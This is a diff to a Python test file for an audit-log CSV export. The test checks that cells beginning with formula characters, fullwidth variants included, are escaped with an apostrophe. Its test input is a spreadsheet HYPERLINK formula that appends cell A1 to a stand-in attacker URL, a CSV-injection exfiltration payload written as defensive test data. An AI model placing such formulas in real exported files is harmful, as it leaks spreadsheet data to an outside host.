@@ -12,8 +12,12 @@ import httpx
 import pytest
 from click.testing import CliRunner
 
+from linkage_ledger import events
 from linkage_ledger.bundle import verify_bundle
+from linkage_service.audit.formats.plain import csv_line
+from linkage_service.audit.tables import AuditEvent
 from linkage_service.cli import main
+from support.ledger_logs import make_header
 from support.service_app import Json, Linked, ServiceApp, data_sets, ok, problem, service_app
 
 EXPORTS = "/v1/audit/exports"
@@ -55,12 +59,17 @@ def test_table_has_a_row_for_each_event_and_no_formula(flow: tuple[ServiceApp, L
     assert (refused["outcome"], refused["elements"]) == ("refused", "1")
 
 
-def test_cell_that_a_spreadsheet_would_calculate_is_made_text() -> None:
-    from linkage_service.audit.formats.plain import _safe
-
-    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
-        assert _safe(text) == f"'{text}"
-    assert _safe("upload.completed") == "upload.completed"
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_cell_that_a_spreadsheet_would_calculate_is_made_text(start: str) -> None:
+    formula = f'{start}HYPERLINK("https://evil.test?"&A1,"x")'
+    # Past the ledger, which takes no header with control characters.
+    header = json.loads(events.encode(make_header()))
+    header |= {"purpose": formula, "source": formula, "request_id": formula, "actor": {"kind": "client", "id": formula}}
+    copies: dict[str, Any] = {**events.indexed(make_header())}
+    row = AuditEvent(seq=7, header=json.dumps(header).encode(), leaf_hash=bytes(32), **copies)
+    cells = next(csv.reader(io.StringIO(csv_line(row, "").decode(), newline="")))
+    assert cells.count(f"'{formula}") == 4
+    assert not [cell for cell in cells if cell.startswith(start)]
 
 
 def test_json_lines_hold_the_exact_header(flow: tuple[ServiceApp, Linked]) -> None:
